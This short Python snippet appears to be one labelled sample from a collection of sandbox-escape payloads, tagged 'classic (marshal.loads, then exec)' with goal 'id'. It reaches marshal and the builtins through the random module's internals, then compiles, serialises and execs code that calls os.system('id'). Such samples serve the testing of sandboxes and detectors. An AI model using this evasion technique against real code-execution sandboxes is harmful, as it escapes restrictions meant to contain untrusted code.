# family: classic (marshal.loads, then exec)   goal: id
import random
marshal = random._os.sys.modules["marshal"]
data = marshal.dumps(random.__builtins__["compile"]("import os; os.system('id')", "x", "exec"))
random.__builtins__["exec"](marshal.loads(data))
